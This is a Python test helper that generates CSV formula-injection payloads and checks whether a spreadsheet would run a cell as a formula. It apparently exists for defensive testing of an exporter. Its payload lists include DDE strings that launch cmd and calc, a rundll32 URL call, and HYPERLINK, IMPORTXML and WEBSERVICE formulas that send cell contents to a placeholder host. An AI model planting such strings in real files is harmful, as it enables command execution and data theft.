"""Texts that a spreadsheet would run as a formula, and an oracle of our own that says whether it would."""

import csv
import io
import random
import unicodedata

_SIGNS = ("=", "+", "-", "@", "＝", "﹢", "－", "＠", "−")
_BEFORE = (
    "", "", "", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u200e", "\u2060",
    "\u00ad", "\x00", "\x0b", "\x1f", "\u180e", " \t\ufeff",
)  # fmt: skip
_AFTER = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://bench.example/?x="&A1,"Click")', "SUM(A1:A9)*0", "1;=2+2",
    "2+5+cmd|'/C notepad'!'A1'", 'IMPORTXML("http://bench.example","//a")', 'DDE("cmd";"/C calc";"x")', "1\n=2+2",
    "1", "A1", "@SUM(1)", "-2+3", 'WEBSERVICE("http://bench.example")', "(1)", "'x'!A1", '"a",=1+1',
    "rundll32|'URL.dll,OpenURL x'!A",
)  # fmt: skip


def payloads(count: int, seed: int) -> list[str]:
    """`count` different texts, each of which a spreadsheet would run if it were written as it is."""
    chance = random.Random(f"formulas-{seed}")
    found: dict[str, None] = {}
    while len(found) < count:
        text = chance.choice(_BEFORE) + chance.choice(_SIGNS) + chance.choice(_AFTER)
        found[text] = None
    return list(found)


def cells(content: bytes) -> list[str]:
    """Every cell of a CSV file, as a spreadsheet reads it: UTF-8 with its mark, commas, quotation marks.

    Raises `csv.Error` or `UnicodeDecodeError` for a file that is none.
    """
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), strict=True) for cell in row]


def would_run(cell: str) -> bool:
    """Whether some spreadsheet would take the cell for a formula.

    Not by the rules of `lifecourse.engines.csvfile`: the text is normalised as a whole (NFKC), everything that does
    not show is dropped from its beginning, and what is left begins with one of four signs and is no plain number.
    """
    plain = unicodedata.normalize("NFKC", cell).replace("\u2212", "-")
    start = 0
    while start < len(plain) and (plain[start].isspace() or unicodedata.category(plain[start])[0] in "CZM"):
        start += 1
    rest = plain[start:]
    if not rest or rest[0] not in "=+-@":
        return False
    try:
        float(rest)
    except ValueError:
        return True
    return cell != rest  # a bare number is a number; one behind something invisible was put there
